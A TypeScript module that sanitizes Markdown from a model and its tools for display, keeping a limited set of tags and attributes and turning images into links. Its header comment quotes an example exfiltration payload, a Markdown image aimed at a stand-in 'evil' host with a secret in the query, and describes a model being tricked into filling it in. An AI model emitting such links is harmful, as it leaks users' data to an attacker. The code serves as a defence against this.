// Model and tool text as HTML that can neither run, fetch nor submit anything.
// marked renders Markdown; DOMPurify keeps only the tags Markdown produces; images become
// links, so no text can make the browser load a URL (`![x](https://evil/?d=SECRET)` would
// leak whatever the model was tricked into putting in it). The app's CSP is the second wall.
import DOMPurify from "dompurify";
import { marked } from "marked";

// What Markdown renders (GFM tables, task lists aside), plus harmless inline HTML.
const ALLOWED_TAGS = (
  "a b blockquote br code del details div em h1 h2 h3 h4 h5 h6 hr i img kbd li mark ol p " +
  "pre s small span strong sub summary sup table tbody td th thead tr u ul"
).split(" ");
// No style (CSS can fetch and overlay), no event handlers, no form targets; `class` stays
// for fenced code's language-* and highlight.js.
const ALLOWED_ATTR = "href title alt src class align start colspan rowspan open".split(" ");
const LINKABLE = /^https?:/i;

const purify = DOMPurify();
purify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

/** An `<img>` as a link to its address (or its text alone when it has no web address). */
function imageAsLink(img: HTMLImageElement): Node {
  const doc = img.ownerDocument;
  const src = img.getAttribute("src") ?? "";
  const label = `image: ${img.getAttribute("alt") || src || "(no address)"}`;
  if (!LINKABLE.test(src)) return doc.createTextNode(`[${label}]`);
  const link = doc.createElement("a");
  link.href = src;
  link.className = "image-link";
  link.textContent = label;
  link.title = src;
  link.target = "_blank";
  link.rel = "noopener noreferrer";
  return link;
}

/** Sanitized HTML for `text` (Markdown with inline HTML). */
export function renderMarkdown(text: string): string {
  const html = marked.parse(text, { async: false, gfm: true, breaks: false });
  // A fragment first: the <img> elements are replaced before anything is parsed into the
  // live document, where setting innerHTML would already start their requests.
  const fragment = purify.sanitize(html, {
    ALLOWED_TAGS,
    ALLOWED_ATTR,
    ALLOW_DATA_ATTR: false,
    RETURN_DOM_FRAGMENT: true,
  });
  for (const img of fragment.querySelectorAll("img")) img.replaceWith(imageAsLink(img));
  const holder = fragment.ownerDocument.createElement("div");
  holder.append(fragment);
  return holder.innerHTML;
}
